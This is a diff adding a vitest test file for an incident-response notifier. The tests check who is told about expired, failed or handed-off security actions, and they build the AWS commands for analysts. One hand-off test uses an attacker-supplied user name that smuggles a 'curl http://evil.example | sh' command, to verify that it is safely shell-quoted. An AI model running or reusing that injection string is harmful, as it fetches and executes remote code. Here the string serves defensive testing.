@@ -1,0 +1,228 @@
+// Who is told what, by the state that an action is in; and that nothing keeps the news from the others.
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
+import type { Action } from '../../functions/domain/action.ts';
+import type { Alert } from '../../functions/domain/alert.ts';
+import { Unavailable } from '../../functions/domain/errors.ts';
+import { Message } from '../../functions/notify/message.ts';
+import { type NotifyDeps, notify } from '../../functions/notify/notify.ts';
+import type { Store } from '../../functions/store/store.ts';
+import { alertWith, attacker, INCIDENT_ID, POLICY } from '../fixtures/case.ts';
+import { startStore, type TestStore } from '../store/dynamo.ts';
+import { inForce, minute, put, waiting } from '../web/desk.ts';
+
+let db: TestStore;
+let store: Store;
+let sent: Message[];
+let tickets: { title: string; body: string }[];
+let unreachable: string[];
+beforeAll(async () => {
+  db = await startStore();
+});
+afterAll(() => db.stop());
+beforeEach(async () => {
+  store = await db.fresh();
+  [sent, tickets, unreachable] = [[], [], []];
+});
+
+const deps = (change: Partial<NotifyDeps> = {}): NotifyDeps => ({
+  store,
+  policy: POLICY,
+  send: async (message) => {
+    const { to } = Message.parse(message);
+    if (to.kind === 'person' && unreachable.includes(to.id)) throw new Unavailable('bounced');
+    sent.push(message);
+  },
+  openTicket: async (ticket) => {
+    tickets.push(ticket);
+    return 'oi-1';
+  },
+  now: () => minute(20),
+  log: () => {},
+  ...change,
+});
+const tell = async (action: Action, more: object = {}, change: Partial<NotifyDeps> = {}) => {
+  const { incidentId, actionId } = action;
+  return notify(deps(change), { incidentId, actionId, scope: 'waf', ...more });
+};
+const told = () => sent.map(({ to }) => (to.kind === 'person' ? to.id : 'team')).sort();
+const text = () => [sent[0]?.subject, ...(sent[0]?.paragraphs ?? [])].join('\n');
+const failure = { Error: 'Unavailable', Cause: 'WAF did not answer' };
+const load = () => store.records.action(INCIDENT_ID, waiting().actionId);
+
+describe('the news', () => {
+  test('of an expired request goes to all who were asked and to the managers, with a ticket', async () => {
+    await tell(await put(store, waiting({ status: 'expired' })));
+    expect(told()).toEqual(['ana.silva', 'ben.okafor', 'mei.tanaka']);
+    expect(text()).toContain('nothing was done');
+    expect(text()).toContain('Ticket oi-1.');
+    expect(tickets).toHaveLength(1);
+    expect((await load()).history.at(-1)).toMatchObject({
+      event: 'told',
+      text: 'Told Ana Silva, Ben Okafor, Mei Tanaka',
+    });
+  });
+
+  test('reaches people although no ticket can be opened', async () => {
+    const openTicket = () => Promise.reject(new Unavailable('OpsCenter is down'));
+    await tell(await put(store, waiting({ status: 'expired' })), {}, { openTicket });
+    expect(told()).toHaveLength(3);
+    expect(text()).toContain('No ticket could be opened');
+  });
+
+  test('reaches the others when one cannot be reached, and the record says who was not', async () => {
+    unreachable = ['ana.silva'];
+    await tell(await put(store, waiting({ status: 'expired' })));
+    expect(told()).toEqual(['ben.okafor', 'mei.tanaka']);
+    expect((await load()).history.at(-1)?.text).toBe(
+      'Told Ben Okafor, Mei Tanaka; not reached: Ana Silva',
+    );
+  });
+
+  test('is tried again when nobody can be reached', async () => {
+    unreachable = ['ana.silva', 'ben.okafor', 'mei.tanaka'];
+    const action = await put(store, waiting({ status: 'expired' }));
+    await expect(tell(action)).rejects.toThrow(Unavailable);
+    expect((await load()).history).toEqual(action.history);
+  });
+
+  test('told twice has the same keys, so that a channel can know it', async () => {
+    const action = await put(store, waiting({ status: 'expired' }));
+    await tell(action);
+    await tell(action);
+    expect(sent).toHaveLength(6);
+    expect(new Set(sent.map(({ key }) => key)).size).toBe(3);
+  });
+
+  test('of a request that could not be put pages everybody, managers too', async () => {
+    await tell(await put(store, waiting()), { failure });
+    expect(told()).toEqual(['ana.silva', 'ben.okafor', 'mei.tanaka']);
+    expect(text()).toContain('WAF did not answer');
+    expect(text()).toContain('unless somebody answers by 03:15 UTC');
+  });
+
+  test('of a stop after approval goes to whoever approved, and says that nothing was changed', async () => {
+    const stopped = 'Stopped after approval: it is protected';
+    const change = { status: 'handed-off', failure: stopped, before: null } as const;
+    await tell(await put(store, inForce({ ...change, appliedAt: null, dueAt: null })));
+    expect(told()).toEqual(['ana.silva']);
+    expect(text()).toMatch(/^Approved, but stopped: /);
+    expect(text()).toContain('it is protected.\nNothing was changed.');
+  });
+
+  test('of an approved action that could not go on is not lost', async () => {
+    await tell(await put(store, inForce({ status: 'approved', before: null, appliedAt: null })), {
+      failure,
+    });
+    expect(told()).toEqual(['ana.silva']);
+    expect(text()).toContain('WAF did not answer');
+  });
+
+  test('of a failure says what happened, and that it was taken back', async () => {
+    await tell(await put(store, inForce({ status: 'failed', failure: 'QuotaExceeded: full' })));
+    expect(text()).toContain('QuotaExceeded: full');
+    expect(text()).toContain('taken back');
+  });
+
+  test.each(['reversal-failed', 'reversing'] as const)(
+    'of an undo that did not happen (%s) has the exact commands',
+    async (status) => {
+      await tell(await put(store, inForce({ status })), { failure });
+      expect(told()).toEqual(['ana.silva', 'mei.tanaka']);
+      expect(text()).toMatch(/^NOT UNDONE: /);
+      expect(text()).toContain('aws wafv2 update-ip-set --scope REGIONAL');
+      expect(text()).toContain('<Addresses without 203.0.113.7/32>');
+    },
+  );
+
+  test('of what is in force and not yet due does not claim that it should be gone', async () => {
+    await tell(await put(store, inForce()), { failure });
+    expect(text()).toMatch(/^Please check: /);
+    expect(text()).toContain('is undone at 04:03 UTC on 24 Nov');
+  });
+
+  test.each(['declined', 'reversed', 'dropped', 'kept'] as const)(
+    'of what is %s is no news',
+    async (status) => {
+      expect(await tell(await put(store, waiting({ status })))).toMatchObject({ told: 0 });
+      expect([sent, tickets]).toEqual([[], []]);
+    },
+  );
+});
+
+describe('a hand-off', () => {
+  const handOff = (change: Partial<Action>, alert: Alert = alertWith()) =>
+    put(
+      store,
+      waiting({
+        status: 'handed-off',
+        disposition: 'hand-off',
+        approval: null,
+        description: null,
+        mechanism: null,
+        reasons: [{ code: 'tier-3', text: 'Tier 3: it never runs here' }],
+        ...change,
+      }),
+      alert,
+    );
+  const instance = {
+    ...attacker,
+    kind: 'instance' as const,
+    ref: 'instance-1',
+    value: 'i-0123456789abcdef0',
+    part: 'target' as const,
+  };
+
+  test('goes to the on-call analyst with commands to look, to do it and to take it back, filled in', async () => {
+    await tell(await handOff({ name: 'isolate_production_host', target: instance }));
+    expect(told()).toEqual(['ana.silva']);
+    expect(text()).toContain('Yours to decide: isolate production host on i-0123456789abcdef0');
+    expect(text()).toContain('Tier 3: it never runs here');
+    expect(text()).toMatch(
+      /Look first:\naws --region eu-central-1 ec2 describe-instances --instance-ids 'i-0123456789abcdef0'/,
+    );
+    expect(text()).toMatch(
+      /To do it:[\s\S]*modify-instance-attribute --instance-id 'i-0123456789abcdef0' --groups <quarantine>/,
+    );
+    expect(text()).toMatch(/To take it back:[\s\S]*--groups <groups noted above>/);
+    expect((await load()).attentionAt).toBeNull();
+  });
+
+  test('of a network attack does not send people to the web firewall', async () => {
+    const traffic = {
+      layer: 'network',
+      direction: 'inbound',
+      localPort: 22,
+      protocol: 'TCP',
+    } as const;
+    const subnet = { ...instance, attributes: { subnetIds: 'subnet-0a1b2c3d' } };
+    const alert = alertWith({ traffic, entities: [attacker, subnet] });
+    await tell(await handOff({ name: 'block_ip_at_firewall', target: attacker }, alert));
+    expect(text()).toContain("Values='subnet-0a1b2c3d'");
+    expect(text()).toContain("--rule-action deny --cidr-block '203.0.113.7/32'");
+    expect(text()).not.toContain('wafv2');
+  });
+
+  test('puts what an attacker named in quotes that hold', async () => {
+    const name = "x'; curl http://evil.example | sh; '";
+    const target = { ...instance, kind: 'iam-user' as const, ref: 'user-1', value: name };
+    await tell(await handOff({ name: 'revoke_service_account_credential', target }));
+    expect(text()).toContain(`--user-name 'x'\\''; curl http://evil.example | sh; '\\''' `);
+  });
+
+  test('of what is no action at all still says what was asked for', async () => {
+    const recommendation = {
+      ...waiting().recommendation,
+      action: 'launch_missiles',
+      target: 'ip-9',
+    };
+    await tell(await handOff({ name: null, target: null, recommendation }));
+    expect(text()).toContain('launch missiles on ip-9');
+    expect(text()).toContain('nothing in the alert');
+  });
+
+  test('has what a machine wrote last, and marked', async () => {
+    await tell(await handOff({ name: 'isolate_production_host', target: instance }));
+    const marked = sent[0]!.paragraphs.findIndex((one) => one.includes('written by a machine'));
+    expect(marked).toBe(sent[0]!.paragraphs.length - 2);
+  });
+});
